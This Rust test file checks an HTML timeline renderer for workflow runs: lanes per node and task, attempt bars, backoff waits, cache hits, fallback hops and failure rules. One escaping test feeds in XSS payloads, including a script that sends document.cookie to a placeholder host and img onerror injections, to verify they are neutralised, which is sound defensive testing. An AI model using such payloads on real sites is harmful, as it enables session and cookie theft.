//! `aegis::render::timeline` draws a thread's waypoints as one HTML page:
//! a lane per node (per task for a muster), a bar per attempt classed by its
//! outcome, backoff waits, cache hits, fallback hops, parleys and handled
//! failures, with everything a user or provider wrote escaped.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use aegis::prelude::*;
use aegis::render::{Timeline, timeline};
use serde_json::json;
use std::sync::Arc;
use std::time::Duration;
use support::fixtures::{delta, field_name, schema};

use DispatchRule::{Append, LastWrite};
use aegis::error::LlmError;
use aegis::graph::EngineLimits;
use aegis::graph::InputMapping;
use aegis::graph::NodeSpec;
use aegis::llm::FallbackLlmAdapter;
use aegis::llm::MockLlmAdapter;
use aegis::paladin::Paladin;
use aegis::policy::CacheKeySpec;
use aegis::policy::ErrorHandlerSpec;
use aegis::trace::CollectingTraceSink;

fn retry(max_attempts: u32) -> RetryPolicy {
    RetryPolicy::default()
        .with_max_attempts(max_attempts)
        .with_initial_interval(Duration::from_millis(100))
        .with_jitter(false)
}

/// `flaky` fails twice (transient), `slow` times out once, `lookup` is
/// cached, `plan` musters three tasks to `work` (task `b` fails once), and
/// `ask` is a Paladin whose primary provider answers 503.
fn graph() -> WarGraph {
    let mut g = WarGraph::new(
        schema(&[
            ("topic", LastWrite),
            ("x", LastWrite),
            ("y", LastWrite),
            ("notes", Append),
            ("answer", LastWrite),
        ]),
        EngineLimits::default(),
    );
    g.add_node(
        "flaky",
        NodeSpec::from_fn("flaky", |_, ctx| {
            let attempt = ctx.attempt();
            Box::pin(async move {
                tokio::time::sleep(Duration::from_millis(10)).await;
                if attempt < 3 {
                    return Err(StateNodeError::transient(format!("503 on {attempt}")));
                }
                Ok(delta(&[("x", json!(1))]).into())
            })
        }),
    )
    .add_node(
        "slow",
        NodeSpec::from_fn("slow", |_, ctx| {
            let attempt = ctx.attempt();
            Box::pin(async move {
                let took = if attempt == 1 { 1_000 } else { 10 };
                tokio::time::sleep(Duration::from_millis(took)).await;
                Ok(StateDelta::new().into())
            })
        }),
    )
    .add_node(
        "lookup",
        NodeSpec::from_fn("lookup", |_, _| {
            Box::pin(async { Ok(delta(&[("y", json!(2))]).into()) })
        }),
    )
    .add_node(
        "plan",
        NodeSpec::from_fn("plan", |_, _| {
            Box::pin(async {
                let tasks = ["a", "b", "c"].map(|k| (k.to_string(), json!(k)));
                Ok(Directive::muster(StateDelta::new(), "work", tasks))
            })
        }),
    )
    .add_worker_template(
        "work",
        NodeSpec::from_fn("work", |_, ctx| {
            let attempt = ctx.attempt();
            let task = ctx.task().map(|t| t.task_key.clone()).unwrap_or_default();
            Box::pin(async move {
                if task == "b" && attempt == 1 {
                    return Err(StateNodeError::transient("index busy"));
                }
                Ok(delta(&[("notes", json!([task]))]).into())
            })
        }),
    )
    .add_node(
        "ask",
        NodeSpec::paladin(
            Paladin::new("Asker").with_model("m"),
            InputMapping::new("{topic}"),
            field_name("answer"),
        ),
    )
    .add_edge(START, "flaky")
    .add_edge(START, "slow")
    .add_edge(START, "lookup")
    .add_edge("flaky", "plan")
    .add_edge("slow", "plan")
    .add_edge("lookup", "plan")
    .add_edge("work", "ask")
    .add_edge("ask", END)
    .set_aegis("flaky", Aegis::new().with_retry(retry(3)))
    .set_aegis(
        "slow",
        Aegis::new()
            .with_retry(retry(2))
            .with_timeout(TimeoutPolicy::run(Duration::from_millis(200))),
    )
    .set_aegis(
        "lookup",
        Aegis::new().with_cache(CachePolicy::new(
            Duration::from_secs(60),
            CacheKeySpec::Fields(vec![field_name("topic")]),
        )),
    )
    .set_aegis("work", Aegis::new().with_retry(retry(2)));
    g
}

/// Runs the graph on a warm-up thread and then on `t2`; returns `t2`'s
/// page, drawn with the trace.
async fn page() -> String {
    let trace = CollectingTraceSink::new();
    let mut primary = MockLlmAdapter::new().with_provider_name("primary");
    let mut backup = MockLlmAdapter::new().with_provider_name("backup");
    for _ in 0..2 {
        primary = primary.with_error(LlmError::ProviderError {
            provider: "primary".to_string(),
            status: 503,
            message: "overloaded".to_string(),
            retry_after: None,
        });
        backup = backup.with_response("fine");
    }
    let chain = FallbackLlmAdapter::new(vec![Arc::new(primary), Arc::new(backup)])
        .unwrap()
        .with_trace_sink(trace.clone());
    let store = Arc::new(InMemoryWaypointStore::new());
    let engine = WarEngine::new(store.clone())
        .with_llm(chain)
        .with_node_cache(InMemoryNodeCache::new())
        .with_trace_sink(trace.clone());
    let g = graph();
    for thread in ["t1", "t2"] {
        engine
            .start(&g, thread, json!({"topic": "launch"}))
            .await
            .unwrap()
            .into_result()
            .unwrap();
    }
    let waypoints = store.history("t2").await.unwrap();
    let events = trace.events();
    Timeline::new(&waypoints).with_trace(&events).to_html()
}

fn bar(outcome: &str, node: &str, attempt: u32) -> String {
    format!("<g class=\"bar attempt {outcome}\" data-node=\"{node}\" data-attempt=\"{attempt}\">")
}

#[tokio::test(start_paused = true)]
async fn one_lane_per_node_and_per_task_in_vanguard_order() {
    let page = page().await;
    assert!(page.starts_with("<!DOCTYPE html>"));
    assert!(page.contains("<svg "), "an inline SVG");
    let lanes: Vec<&str> = page
        .match_indices("<g class=\"lane\" ")
        .map(|(i, _)| {
            let rest = &page[i..];
            &rest[..rest.find('>').unwrap()]
        })
        .collect();
    let expected = [
        "data-node=\"flaky\"",
        "data-node=\"lookup\"",
        "data-node=\"slow\"",
        "data-node=\"plan\"",
        "data-node=\"work\" data-task=\"a\"",
        "data-node=\"work\" data-task=\"b\"",
        "data-node=\"work\" data-task=\"c\"",
        "data-node=\"ask\"",
    ];
    assert_eq!(lanes.len(), expected.len(), "{lanes:#?}");
    for (lane, want) in lanes.iter().zip(expected) {
        assert!(lane.ends_with(want), "{lane} should end with {want}");
    }
}

#[tokio::test(start_paused = true)]
async fn each_attempt_is_a_bar_classed_by_its_outcome() {
    let page = page().await;
    for (outcome, node, attempt) in [
        ("failed-transient", "flaky", 1),
        ("failed-transient", "flaky", 2),
        ("succeeded", "flaky", 3),
        ("timeout", "slow", 1),
        ("succeeded", "slow", 2),
        ("succeeded", "plan", 1),
        ("failed-transient", "work", 1),
        ("succeeded", "work", 2),
        ("succeeded", "ask", 1),
    ] {
        assert!(
            page.contains(&bar(outcome, node, attempt)),
            "no {outcome} bar for {node} attempt {attempt}"
        );
    }
    // Three tasks ran once each, `b` twice: 4 attempts on `work`'s lanes.
    assert_eq!(page.matches("data-node=\"work\" data-attempt=").count(), 4);
    // 3 + 2 + 1 + 4 + 1 attempts; the cache hit is not one.
    assert_eq!(page.matches("<g class=\"bar attempt ").count(), 11);
    assert!(page.contains("11 attempts"), "the summary counts them");
    // The timeout's bar says which bound cut it, its hover the error.
    assert!(page.contains("slow — attempt 1: timed out after 200ms\nrun timeout elapsed"));
    assert!(page.contains("flaky — attempt 1: failed (transient) after 10ms\n503 on 1"));
}

#[tokio::test(start_paused = true)]
async fn waits_cache_hits_and_hops_are_drawn_from_waypoints_and_trace() {
    let page = page().await;
    // flaky waited before attempts 2 and 3, slow before 2, task b before 2;
    // with the trace each wait is the scheduled one, on any clock.
    assert_eq!(page.matches("<g class=\"wait backoff\"").count(), 4);
    assert!(page.contains("flaky — backoff 100ms before attempt 2"));
    assert!(page.contains("flaky — backoff 200ms before attempt 3"));
    assert!(page.contains("work[b] — backoff 100ms before attempt 2"));
    // The lookup was served from the cache the first thread filled.
    assert!(page.contains("<g class=\"bar cache-hit\" data-node=\"lookup\">"));
    assert!(page.contains("lookup — served from the cache"));
    // The Paladin's attempt carries the chain's hop.
    assert!(page.contains("<g class=\"hop\" data-node=\"ask\" data-attempt=\"1\">"));
    assert!(page.contains("ask — attempt 1: fallback hop primary → backup"));
    assert_eq!(page.matches("<g class=\"hop\"").count(), 1);
    // Self-contained: no script, nothing fetched.
    assert!(!page.contains("<script"));
    assert!(!page.contains("http://") || page.matches("http://").count() == 1);
    assert!(page.contains("xmlns=\"http://www.w3.org/2000/svg\""));
    assert!(!page.contains("https://"));
}

#[tokio::test(start_paused = true)]
async fn without_the_trace_the_last_attempt_includes_its_wait() {
    let trace_free = {
        let store = Arc::new(InMemoryWaypointStore::new());
        let engine = WarEngine::new(store.clone());
        let mut g = WarGraph::new(schema(&[("x", LastWrite)]), EngineLimits::default());
        g.add_node("flaky", graph_node("flaky"))
            .add_edge(START, "flaky")
            .add_edge("flaky", END)
            .set_aegis("flaky", Aegis::new().with_retry(retry(2)));
        engine.start(&g, "t", json!({})).await.unwrap();
        timeline(&store.history("t").await.unwrap())
    };
    assert!(trace_free.contains(&bar("failed-transient", "flaky", 1)));
    assert!(trace_free.contains(&bar("succeeded", "flaky", 2)));
    assert!(trace_free.contains("(the bar includes the backoff wait before this attempt)"));
}

/// A node failing its first attempt (transient), then writing `x`.
fn graph_node(name: &'static str) -> NodeSpec {
    NodeSpec::from_fn(name, |_, ctx| {
        let attempt = ctx.attempt();
        Box::pin(async move {
            if attempt == 1 {
                return Err(StateNodeError::transient("first try"));
            }
            Ok(delta(&[("x", json!(1))]).into())
        })
    })
}

#[tokio::test(start_paused = true)]
async fn hostile_names_errors_and_prompts_are_escaped() {
    let evil = "<script>alert('node')</script>";
    let mut g = WarGraph::new(
        schema(&[("x", LastWrite), ("err", LastWrite)]),
        EngineLimits::default(),
    );
    g.add_node(
        evil,
        NodeSpec::from_fn("evil", |_, _| {
            Box::pin(async {
                Err(StateNodeError::permanent(
                    "<script>fetch('https://x.invalid/'+document.cookie)</script>\"&",
                ))
            })
        }),
    )
    .add_node(
        "ask",
        NodeSpec::gate("Ship <img src=x onerror=alert(1)>?", "yes", "no"),
    )
    .add_node(
        "yes",
        NodeSpec::from_fn("yes", |_, _| {
            Box::pin(async { Ok(StateDelta::new().into()) })
        }),
    )
    .add_node(
        "no",
        NodeSpec::from_fn("no", |_, _| {
            Box::pin(async { Ok(StateDelta::new().into()) })
        }),
    )
    .add_edge(START, evil)
    .add_edge(evil, "ask")
    .add_edge("yes", END)
    .add_edge("no", END)
    .set_aegis(
        evil,
        Aegis::new().with_on_error(ErrorHandlerSpec::Absorb {
            fallback_delta: delta(&[("x", json!(0))]),
        }),
    );
    let store = Arc::new(InMemoryWaypointStore::new());
    let engine = WarEngine::new(store.clone());
    let thread = "t<img src=x onerror=alert(2)";
    let outcome = engine.start(&g, thread, json!({})).await.unwrap();
    assert!(matches!(outcome, RunOutcome::AwaitingInput { .. }));
    let page = timeline(&store.history(thread).await.unwrap());

    assert!(!page.contains("<script"), "{page}");
    assert!(!page.contains("<img"), "{page}");
    assert!(page.contains("&lt;script&gt;alert(&#39;node&#39;)&lt;/script&gt;"));
    assert!(page.contains(
        "&lt;script&gt;fetch(&#39;https://x.invalid/&#39;+document.cookie)&lt;/script&gt;&quot;&amp;"
    ));
    assert!(page.contains("Run timeline — thread t&lt;img src=x onerror=alert(2)"));
    // The failure is permanent and handled by absorb.
    assert!(page.contains(&bar(
        "failed-permanent",
        "&lt;script&gt;alert(&#39;node&#39;)&lt;/script&gt;",
        1
    )));
    assert!(page.contains("final failure handled: absorb"));
    // The gate waits: a parley band on its lane, its prompt escaped.
    assert!(page.contains("<g class=\"parley\" data-node=\"ask\">"));
    assert!(page.contains("parley (awaiting input)"));
    assert!(page.contains("Ship &lt;img src=x onerror=alert(1)&gt;?"));
    assert!(page.contains("AwaitingInput"));
}

#[test]
fn no_waypoints_is_a_page_that_says_so() {
    let page = timeline(&[]);
    assert!(page.contains("nothing ran in this thread"));
    assert!(page.contains("no waypoints"));
    assert!(page.trim_end().ends_with("</html>"));
}

#[tokio::test(start_paused = true)]
async fn a_failed_run_is_a_rule_across_the_lanes() {
    let mut g = WarGraph::new(schema(&[("x", LastWrite)]), EngineLimits::default());
    g.add_node(
        "doomed",
        NodeSpec::from_fn("doomed", |_, _| {
            Box::pin(async { Err(StateNodeError::permanent("card <declined>")) })
        }),
    )
    .add_edge(START, "doomed")
    .add_edge("doomed", END);
    let store = Arc::new(InMemoryWaypointStore::new());
    let engine = WarEngine::new(store.clone());
    let outcome = engine.start(&g, "t", json!({})).await.unwrap();
    assert!(outcome.node_error().is_some());
    let page = timeline(&store.history("t").await.unwrap());
    assert!(page.contains(&bar("failed-permanent", "doomed", 1)));
    let rule = page
        .find("<g class=\"rule failed\">")
        .map(|i| &page[i..])
        .unwrap_or_else(|| panic!("no failure rule in {page}"));
    assert!(rule.contains("card &lt;declined&gt;"), "{rule}");
    assert!(page.contains("Failed · "), "the summary names the status");
}
